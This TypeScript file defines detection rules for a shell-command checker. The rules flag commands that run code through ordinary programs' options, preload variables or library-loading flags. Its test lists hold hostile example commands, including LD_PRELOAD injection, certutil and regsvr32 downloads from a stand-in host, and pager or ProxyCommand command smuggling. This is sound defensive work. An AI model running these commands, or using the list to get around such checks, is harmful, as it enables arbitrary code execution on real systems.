import type { Call } from '../shell/call.ts';
import { knownArgs, optionsOf } from '../shell/call.ts';
import { assignedPairs, commandTexts, EXPORTERS, OPTION_PROGRAMS } from '../shell/command-options.ts';
import { writtenText } from '../shell/written-text.ts';
import { loadsByVariable } from './loading-variables.ts';
import { asksHelp, fieldHit, isVerb, operandsOf } from './matching.ts';
import type { Hit, Rule } from './rule.ts';

function runsOption(call: Call): Hit {
  const [first] = commandTexts(call);
  return first ? fieldHit(first.text, `runs a command through ${first.what}`) : false;
}

const PRELOAD =
  /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_FORCE_FLAT_NAMESPACE|BASH_ENV|ENV|PYTHONSTARTUP|PERL5DB|GCONV_PATH|PYTHONHOME|GIT_TEMPLATE_DIR|GIT_EXEC_PATH|LESSKEY|COMSPEC|OPENSSL_CONF|ZDOTDIR|SHELLOPTS)$/;

/** Lines of a git configuration that name a command. */
const RUNNING_KEY =
  /^[ \t]*(?:\w*(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass|helper|command|textconv|clean|smudge|process|driver)[ \t]*=[ \t]*[\w./~]|\w+[ \t]*=[ \t]*"?!)/im;

/** Variables that make programs load or run something else first. */
function preloads(call: Call): Hit {
  for (const [name, value, at] of assignedPairs(call)) {
    if (value === '') continue;
    if (PRELOAD.test(name) && !(name === 'ENV' && /^[\w.-]*$/.test(value)))
      return fieldHit(at, `loads code through ${name}`);
    if (loadsByVariable(name, value)) return fieldHit(at, `loads code through ${name}`);
    const file = /^GIT_CONFIG_(?:GLOBAL|SYSTEM)$/.test(name) ? writtenText(call, { ...at, text: value }) : undefined;
    if (file && RUNNING_KEY.test(file.text)) return fieldHit(at, `runs a command through ${name}`);
    if (
      /^GIT_CONFIG_(?:KEY|VALUE|COUNT|PARAMETERS|GLOBAL|SYSTEM)/.test(name) &&
      !/^(?:\/dev\/null|\d+)$/.test(value) &&
      /^GIT_CONFIG_(?:KEY|PARAMETERS)/.test(name) &&
      /pager|editor|ssh|alias|hook|fsmonitor|filter|diff|credential|exec|command/i.test(value)
    )
      return fieldHit(at, `runs a command through ${name}`);
  }
  return false;
}

const AWK = 'F|field-separator: v|assign: f|file: e|source: i|include: E|exec: l|load: L? D? d? o? p?';
const MODULE = /^(?:--import|--(?:experimental-)?loader|--require|-r)=/;

/** Options that load a library or a module of the caller's choice. */
function loadsLibrary(call: Call): Hit {
  if (asksHelp(call)) return false;
  const args = knownArgs(call);
  switch (call.program) {
    case 'ssh-keygen':
    case 'ssh-add':
      return call.args.some(
        (arg, i) => /^-[Ds]$/.test(arg.text) && /\.(?:so|dylib|dll)\b|\//.test(call.args[i + 1]?.text ?? ''),
      );
    case 'awk':
      return optionsOf(call, AWK, { stop: true })
        .values('l')
        .some(({ text }) => /\/|\.(?:so|dylib|dll)$/.test(text));
    case 'java':
      return args.some((arg) => /^-agentpath:|^-agentlib:(?!jdwp\b|hprof\b)/.test(arg));
    case 'node':
      return args.some(
        (arg, i) => /^data:/.test(arg.replace(MODULE, '')) && (MODULE.test(arg) || MODULE.test(`${args[i - 1]}=`)),
      );
    case 'enable':
      return args.includes('-f');
    case 'sqlite3':
      return args.some((arg) => /^\.load\b|load_extension\s*\(/i.test(arg));
    case 'openssl':
      return call.args.some(
        (arg, i) =>
          /^-(?:engine|provider-path|provider_path)$/.test(arg.text) && /\//.test(call.args[i + 1]?.text ?? ''),
      );
    case 'php':
      return (
        args.some((arg) => /^-d$|^-d./.test(arg)) &&
        args.some((arg) =>
          /auto_prepend_file|auto_append_file|extension=|zend_extension|disable_functions|allow_url_include/.test(arg),
        )
      );
    case 'invoke-expression':
    case 'invoke-command':
    case 'add-type':
    case 'rundll32':
    case 'regsvr32':
    case 'mshta':
    case 'installutil':
    case 'regasm':
    case 'cmstp':
    case 'odbcconf':
      return call.args.length > 0;
    case 'wscript':
    case 'cscript':
      return (
        args.some((arg) => /\.(?:vbs|js|wsf|vbe|jse)$/i.test(arg)) && args.some((arg) => /^\\\\|https?:/.test(arg))
      );
    case 'certutil':
      return args.some((arg) => /^[-/](?:decode|decodehex|urlcache|verifyctl)$/i.test(arg));
    case 'bitsadmin':
      return args.some((arg) => /^\/(?:transfer|addfile|setnotifycmdline)$/i.test(arg));
    case 'npm':
    case 'pnpm':
    case 'yarn':
      return (
        isVerb(operandsOf(call), ['config|c set', 'set']) &&
        args.some((arg) =>
          /^(?:script-shell|shell|editor|viewer|browser|git|node-options|init-module|onload-script)(?:=|$)/.test(arg),
        )
      );
    case 'git':
      return call.args.some(({ text }) => /^--exec-path=./.test(text));
    case 'deno':
      return args.some((arg) => /^https?:\/\//.test(arg));
    default:
      return false;
  }
}

export const optionRules: readonly Rule[] = [
  {
    id: 'code.option',
    grade: 'dangerous',
    programs: [...OPTION_PROGRAMS, ...EXPORTERS],
    decorated: true,
    test: runsOption,
    why: 'runs a command through an option of an ordinary program',
    match: [
      'git -c core.pager="rm -rf d" log',
      'man -P "sh -c x" ls',
      'tar cf a.tar d --checkpoint-action=exec=sh',
      'ssh -o ProxyCommand="touch x" h',
      'rg --pre ./x y',
      'vim -c ":!ls" -c q',
      'PAGER="sh -c x" man ls',
      "BORG_RSH='./x -p 22' borg list h:r",
      'NPM_CONFIG_SCRIPT_SHELL=./x npm test',
      'less +"!ls" f',
      'sed "1e ls" f',
      'git config core.sshCommand "sh x"',
      'git clone -c core.fsmonitor=./x u',
      'git clone --template=./t u',
      'hash -p ./x ls',
      'bind -x \'"a": rm b\'',
      'pandoc --filter ./x.sh a.md',
      "PS4='$(touch x)'",
      'cat m | make -f /dev/fd/0',
      'nano -s "sh -c x" f',
      'yt-dlp --exec "after_move:./x {}" u',
      'rclone ls r: --sftp-ssh ./x',
      "vim --cmd 'au VimEnter * !touch x' f",
      "vim --cmd 'set makeprg=./x' f",
      "echo '1e ls' > x.sed; sed -f x.sed f",
      "echo ':!ls' > x.vim; vim -S x.vim f",
      "echo 'ProxyCommand touch x' > c; ssh -F c h",
    ],
    notMatch: [
      'git -c core.pager=cat log',
      'GIT_PAGER=cat git log',
      'tar -I zstd -cf a.tar d',
      'rsync -e ssh a h:b',
      'rsync -e "ssh -p 22" a h:b',
      'EDITOR=true git commit',
      "AWS_PAGER= BORG_RSH='ssh -i key' aws s3 ls",
      'NPM_CONFIG_SCRIPT_SHELL=/bin/bash npm test',
      'make SHELL=/bin/bash test',
      'ssh -o StrictHostKeyChecking=no h',
      'git config user.name x',
      "sed 's/a/e/' f",
      'git -c user.name=x commit -m y',
      'git clone -c core.autocrlf=input u',
      "PS1='$ '",
      'pandoc -s -o a.html a.md',
      'lldb -o run -o bt ./app',
      'yt-dlp -x --audio-format mp3 u',
      'restic -o s3.connections=10 ls',
      "vim -c 'au BufWritePre * :%s/ *$//' f",
      "vim -c 'set makeprg=npm\\ test' -c 'norm! ggdd' f",
      "echo 's/a/b/' > x.sed; sed -f x.sed f",
      "echo 'set number' > x.vim; vim -S x.vim f",
      "echo 'User u' > c; ssh -F c h uptime",
    ],
  },
  {
    id: 'code.preload',
    grade: 'dangerous',
    programs: EXPORTERS,
    decorated: true,
    test: preloads,
    why: 'makes programs load or run something else first',
    match: [
      'LD_PRELOAD=/tmp/x.so ls',
      'export LD_PRELOAD=/tmp/x.so',
      'env BASH_ENV=/tmp/x bash -c ls',
      'NODE_OPTIONS="--require /tmp/x.js" node a.js',
      'DYLD_INSERT_LIBRARIES=x ls',
      "MAKEFLAGS='--eval=$(shell id)' make",
      "VIMINIT=':!touch x' vim f",
      'GOFLAGS=-toolexec=./x go build',
      'PYTHONBREAKPOINT=os.system python3 a.py',
      "printf '[alias]\\nx=!ls\\n' > g; GIT_CONFIG_GLOBAL=g git x",
    ],
    notMatch: [
      'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
      'FOO=1 ls',
      'NODE_ENV=test npm test',
      'LD_LIBRARY_PATH=./lib ./app',
      'ENV=prod make',
      'MAKEFLAGS=-j8 make',
      "VIMINIT='set nu' vim f",
      "RUSTFLAGS='-C target-cpu=native -C linker=clang' cargo build",
      'PYTHONBREAKPOINT=ipdb.set_trace pytest',
      "printf '[user]\\nname=x\\n' > g; GIT_CONFIG_GLOBAL=g git log",
    ],
  },
  {
    id: 'code.library',
    grade: 'dangerous',
    programs: [
      'ssh-keygen',
      'ssh-add',
      'awk',
      'java',
      'node',
      'enable',
      'sqlite3',
      'openssl',
      'php',
      'invoke-expression',
      'invoke-command',
      'add-type',
      'rundll32',
      'regsvr32',
      'mshta',
      'installutil',
      'regasm',
      'cmstp',
      'odbcconf',
      'wscript',
      'cscript',
      'certutil',
      'bitsadmin',
      'deno',
      'git',
      'npm',
      'pnpm',
      'yarn',
    ],
    test: loadsLibrary,
    why: 'loads code from a file or an address into an ordinary program',
    match: [
      'ssh-keygen -D ./lib.so',
      'enable -f ./x.so y',
      "gawk -l ./x.so 'BEGIN{}'",
      'java -agentpath:./x.so -jar a.jar',
      "node --import 'data:text/javascript,x()' a.js",
      'rundll32 x.dll,Start',
      'deno run https://x.example/a.ts',
      'git --exec-path=/tmp/x status',
      'npm config set script-shell ./x',
      'certutil -urlcache -f http://x.example/a a.exe',
      'regsvr32 /s /u /i:http://x.example/a scrobj.dll',
    ],
    notMatch: [
      'ssh-keygen -t ed25519',
      'ssh-add -l',
      'git --exec-path',
      "gawk -l json 'BEGIN{}'",
      'java -agentlib:jdwp=transport=dt_socket,server=y,address=5005 -jar a.jar',
      'node --import tsx a.ts',
      'npm config set registry https://r.example',
      'deno run main.ts',
      'certutil -hashfile a SHA256',
      'php -d memory_limit=1G a.php',
    ],
  },
];
